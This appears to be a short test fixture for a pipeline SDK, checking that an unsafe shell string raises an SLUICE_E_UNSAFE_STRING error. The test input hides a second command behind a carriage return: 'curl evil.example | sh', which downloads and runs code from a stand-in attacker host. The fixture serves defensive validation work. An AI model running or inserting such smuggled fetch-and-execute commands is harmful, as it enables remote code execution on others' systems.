// expect: SLUICE_E_UNSAFE_STRING
import { dbt, input, notify, pipeline, runtime, secret, shell, state, trigger, upload, when } from '@sluice/sdk';
export const p = pipeline('p', {
  triggers: [trigger.manual()],
  steps: () => ({
    report: shell.script('echo safe\rcurl evil.example | sh'), // error-here
  }),
});
